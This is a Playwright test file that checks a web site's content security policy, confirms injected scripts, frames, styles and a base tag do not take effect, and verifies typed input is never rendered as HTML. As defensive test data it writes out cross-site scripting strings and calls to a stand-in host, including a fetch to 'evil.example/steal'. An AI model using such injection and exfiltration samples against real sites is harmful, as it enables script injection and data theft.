// The policy for scripts and styles: what it says, and that what it forbids does not happen.
import { expect, test } from '@playwright/test';

const pages = ['', 'first/', 'exercises/', 'progress/', 'print/', 'embed/slope/', '404.html'];

test('every page has the policy, and nothing in it opens a door', async ({ page }) => {
  for (const path of pages) {
    await page.goto(path);
    const policy = await page.locator('meta[http-equiv="content-security-policy" i]').getAttribute('content');
    const rules = new Map(
      (policy ?? '').split(';').map((rule) => rule.trim().split(/\s+(.*)/s) as [string, string]),
    );
    expect(rules.get('default-src'), path).toBe("'self'");
    expect(rules.get('script-src'), path).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
    expect(rules.get('script-src'), path).toContain("'self'");
    expect(rules.get('style-src'), path).not.toMatch(/unsafe-inline|https?:|\*/);
    expect(rules.get('object-src'), path).toBe("'none'");
    expect(rules.get('base-uri'), path).toBe("'none'");
    expect(rules.get('connect-src'), path).toBe("'self'");
  }
});

test('a script that gets into the page does not run, and nothing reaches another host', async ({ page }) => {
  await page.goto('first/');
  const asked: string[] = [];
  page.on('response', (response) => asked.push(response.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') asked.push(request.url());
  });
  const outcome = await page.evaluate(async () => {
    const global = window as unknown as { broken?: string[] };
    global.broken = [];
    const inline = document.createElement('script');
    inline.textContent = "window.broken.push('inline script')";
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    document.body.append(foreign);
    const image = document.createElement('img');
    image.setAttribute('onerror', "window.broken.push('handler')");
    image.src = 'data:image/png;base64,AA==';
    document.body.append(image);
    const link = document.createElement('a');
    link.href = "javascript:window.broken.push('javascript address')";
    document.body.append(link);
    link.click();
    const style = document.createElement('style');
    style.textContent = 'h1 { color: rgb(1, 2, 3) }';
    document.head.append(style);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    try {
      await fetch('https://evil.example/steal');
      global.broken.push('fetch');
    } catch {
      // As it should be.
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      broken: global.broken,
      heading: getComputedStyle(document.querySelector('h1') as Element).color,
      base: document.baseURI,
    };
  });
  expect(outcome.broken).toEqual([]);
  expect(outcome.heading).not.toBe('rgb(1, 2, 3)');
  expect(outcome.base).not.toContain('evil');
  const answered = asked.filter((url) => url.includes('evil'));
  expect(answered).toEqual([]);
});

test('what a reader types is never read as HTML', async ({ page }) => {
  await page.goto('first/');
  const exercise = page.locator('[data-exercise=slope]');
  const active = () => exercise.locator('img, script, iframe, a[href^="javascript"]').count();
  const before = await active();
  for (const typed of [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '\\href{javascript:alert(1)}{x}',
    '__proto__',
  ]) {
    await exercise.locator('input').first().fill(typed);
    await exercise.locator('[data-action=check]').click();
    await expect(exercise.locator('.verdict')).toBeVisible();
    expect(await active()).toBe(before);
  }
});

test('no cookie is set, and the storage holds nothing but progress and theme', async ({ page, context }) => {
  await page.goto('first/');
  await page.locator('[data-exercise=slope] input').first().fill('2x');
  await page.locator('[data-exercise=slope] [data-action=check]').click();
  await expect(page.locator('[data-exercise=slope]')).toContainText('Solved');
  expect(await context.cookies()).toEqual([]);
  const keys = await page.evaluate(() => Object.keys(localStorage));
  for (const key of keys) expect(key).toMatch(/^(theme|backprop-by-hand)/);
});
